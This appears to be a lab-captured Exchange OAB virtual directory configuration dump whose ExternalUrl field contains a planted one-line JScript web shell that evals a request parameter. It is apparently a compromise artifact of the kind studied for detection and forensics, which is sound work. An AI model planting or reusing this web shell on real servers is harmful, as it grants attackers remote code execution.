Name                            : OAB (Default Web Site)
PollInterval                    : 480
OfflineAddressBooks             : \Default Offline Address Book
RequireSSL                      : True
BasicAuthentication             : False
WindowsAuthentication           : True
OAuthAuthentication             : True
MetabasePath                    : IIS://exch2019.lab.test/W3SVC/1/ROOT/OAB
Path                            : C:\Program Files\Microsoft\Exchange Server\V15\FrontEnd\HttpProxy\OAB
ExtendedProtectionTokenChecking : None
ExtendedProtectionFlags         :
ExtendedProtectionSPNList       :
AdminDisplayVersion             : Version 15.2 (Build 721.2)
Server                          : EXCH2019
InternalUrl                     : https://exch2019.lab.test/OAB
InternalAuthenticationMethods   : OAuth
                                  WindowsIntegrated
ExternalUrl                     : http://o/#<script language="JScript" runat="server">function Page_Load(){eval(Request["qWxZ"],"unsafe");}</script>
ExternalAuthenticationMethods   : OAuth
                                  WindowsIntegrated
AdminDisplayName                :
ExchangeVersion                 : 0.10 (14.0.100.0)
DistinguishedName               : CN=OAB (Default Web Site),CN=HTTP,CN=Protocols,CN=EXCH2019,CN=Servers,CN=Exchange Administrative Group (FYDIBOHF23SPDLT),CN=Administrative Groups,CN=Contoso,CN=Microsoft Exchange,CN=Services,CN=Configuration,DC=lab,DC=test
Identity                        : EXCH2019\OAB (Default Web Site)
Guid                            : 0a1b2c3d-4e5f-4a6b-8c7d-9e0f1a2b3c4d
ObjectCategory                  : lab.test/Configuration/Schema/ms-Exch-OAB-Virtual-Directory
ObjectClass                     : top
                                  msExchVirtualDirectory
                                  msExchOABVirtualDirectory
WhenChanged                     : 3/3/2021 5:21:10 AM
WhenCreated                     : 11/12/2020 2:14:33 PM
WhenChangedUTC                  : 3/3/2021 1:21:10 PM
WhenCreatedUTC                  : 11/12/2020 10:14:33 PM
OrganizationId                  :
Id                              : EXCH2019\OAB (Default Web Site)
OriginatingServer               : DC01.lab.test
IsValid                         : True
ObjectState                     : Unchanged
